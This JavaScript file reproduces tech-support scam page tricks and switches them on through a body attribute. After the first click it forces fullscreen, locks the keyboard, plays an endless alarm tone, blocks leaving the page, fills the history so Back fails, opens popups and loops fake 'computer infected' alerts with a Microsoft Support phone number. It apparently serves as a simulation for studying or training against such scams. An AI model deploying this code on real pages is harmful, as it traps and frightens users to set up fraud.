// Behaviours copied from real tech-support scam kits, switched on by <body data-traps="...">.
// Everything arms on the first click (browsers demand a user gesture for most of it).
(function () {
  'use strict';
  var traps = (document.body.getAttribute('data-traps') || '').split(/\s+/);
  var has = function (name) { return traps.indexOf(name) >= 0; };
  var scamTitle = document.body.getAttribute('data-scam-title');
  var popupPage = document.body.getAttribute('data-popup') || 'popup.html';
  var armed = false;

  function alarm() {
    // Alarm tone: a square-wave oscillator switching between two pitches, forever.
    var ctx = new (window.AudioContext || window.webkitAudioContext)();
    var osc = ctx.createOscillator();
    var gain = ctx.createGain();
    osc.type = 'square';
    gain.gain.value = 0.05;
    osc.connect(gain);
    gain.connect(ctx.destination);
    osc.start();
    var high = false;
    setInterval(function () { high = !high; osc.frequency.setValueAtTime(high ? 960 : 640, ctx.currentTime); }, 250);
    window.__alarm = ctx;
  }

  function arm() {
    if (armed) return;
    armed = true;
    document.body.setAttribute('data-armed', 'yes');
    if (has('fullscreen')) document.documentElement.requestFullscreen().catch(function () {});
    if (has('keylock') && navigator.keyboard && navigator.keyboard.lock) navigator.keyboard.lock().catch(function () {});
    if (has('audio')) alarm();
    if (has('beforeunload')) {
      window.addEventListener('beforeunload', function (event) { event.preventDefault(); event.returnValue = ''; return ''; });
    }
    if (has('pushstate')) {
      // Fills the history so Back never leaves the page.
      for (var i = 0; i < 50; i += 1) history.pushState({ n: i }, '', '#trap' + i);
      window.addEventListener('popstate', function () { history.pushState({}, '', '#again'); });
    }
    if (has('popups')) {
      for (var p = 0; p < 6; p += 1) window.open(popupPage + '?n=' + p, 'scam' + p, 'width=420,height=320,left=' + (60 + p * 40) + ',top=' + (60 + p * 40));
    }
    if (scamTitle) document.title = scamTitle;
    if (has('alert')) {
      // alert() loop: every dismissal brings the next one.
      setTimeout(function loop() { alert('WARNING! Your computer is infected. Call Microsoft Support +1-888-555-0147 now.'); setTimeout(loop, 50); }, 1500);
    }
  }
  document.addEventListener('click', arm);
  window.__arm = arm;
})();
